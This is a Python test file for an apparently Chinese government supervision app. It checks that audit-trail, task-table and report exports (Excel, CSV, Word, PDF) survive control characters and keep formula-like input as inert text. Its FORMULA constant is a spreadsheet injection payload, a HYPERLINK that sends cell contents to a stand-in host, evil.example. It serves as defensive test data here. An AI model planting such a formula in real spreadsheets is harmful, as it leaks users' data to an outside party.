"""What a user typed reaches every export whole and harmless: control characters (同意\\x01\\x0b, once
accepted, made every export of the audit trail answer 500, and the report's Word and PDF downloads
too) are stripped, and a comment that is a formula stays text in Excel and CSV."""

from __future__ import annotations

import csv
import io
from types import SimpleNamespace
from typing import Any

from docx import Document
from openpyxl import load_workbook
from pypdf import PdfReader

from luoshi.ledger.models import AuditEntry, Unit
from luoshi.progress.models import Report

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")'
CONTROLS = "\x01\x0b\x1f"


def _accept_with(world: SimpleNamespace, office: Any, comment: str) -> Report:
    report = Report.objects.get(task=world.e, period="2026Q3")
    report.accept(by=office, comment=comment)
    return report


def test_an_audit_entry_holding_control_characters_and_a_formula_exports_to_excel_and_csv(
    world: SimpleNamespace, office: Any, auditor: Any, as_user: Any
) -> None:
    world.a.reword(f"实施国土绿化行动{CONTROLS}。", by=office, note=FORMULA)
    _accept_with(world, office, f"同意{CONTROLS}")
    assert AuditEntry.objects.filter(note=FORMULA).exists()
    client = as_user(auditor)

    xlsx = client.get("/audit/export.xlsx")
    assert xlsx.status_code == 200
    cells = [c for row in load_workbook(io.BytesIO(xlsx.content)).active.iter_rows() for c in row]
    formula_cells = [c for c in cells if c.value == FORMULA]
    assert formula_cells
    assert all(c.data_type == "s" for c in formula_cells)  # text, not a live formula
    assert not any(isinstance(c.value, str) and "\x01" in c.value for c in cells)

    csv_response = client.get("/audit/export.csv")
    assert csv_response.status_code == 200
    rows = list(csv.reader(io.StringIO(csv_response.content.decode("utf-8-sig"))))
    assert [f for row in rows for f in row if FORMULA in f] == ["'" + FORMULA]
    assert "\x01" not in csv_response.content.decode("utf-8-sig")


def test_the_report_downloads_when_a_narrative_holds_control_characters(
    world: SimpleNamespace, office: Any, as_user: Any
) -> None:
    Report.objects.filter(task=world.a, period="2026Q3").update(narrative=f"完成修复面积{CONTROLS}12万亩。")
    world.a.reword(f"实施国土绿化行动{CONTROLS}，到2035年全市森林覆盖率达到30%。", by=office)
    client = as_user(office)
    query = {"decision": world.decision.pk, "period": "2026Q3"}
    word = client.get("/exchange/report/download/", {**query, "format": "docx"})
    assert word.status_code == 200
    text = "\n".join(p.text for p in Document(io.BytesIO(word.content)).paragraphs)
    assert "实施国土绿化行动，到2035年" in text
    pdf = client.get("/exchange/report/download/", {**query, "format": "pdf"})
    assert pdf.status_code == 200
    assert PdfReader(io.BytesIO(pdf.content)).pages


def test_the_task_table_keeps_a_formula_written_as_a_task_as_text(
    world: SimpleNamespace, office: Any, as_user: Any
) -> None:
    world.a.reword(FORMULA + CONTROLS, by=office)
    response = as_user(office).get("/exchange/tasks.xlsx")
    assert response.status_code == 200
    cells = [c for row in load_workbook(io.BytesIO(response.content)).worksheets[0].iter_rows() for c in row]
    (cell,) = [c for c in cells if c.value == FORMULA]
    assert cell.data_type == "s"


def test_a_unit_named_like_a_formula_stays_text_in_the_burden_export(
    world: SimpleNamespace, leader: Any, as_user: Any
) -> None:
    Unit.objects.filter(pk=world.a.lead_unit_id).update(name=FORMULA)
    response = as_user(leader).get("/supervision/burden/?format=xlsx")
    assert response.status_code == 200
    cells = [c for row in load_workbook(io.BytesIO(response.content)).active.iter_rows() for c in row]
    (cell,) = [c for c in cells if c.value == FORMULA]
    assert cell.data_type == "s"
    assert cell.quotePrefix
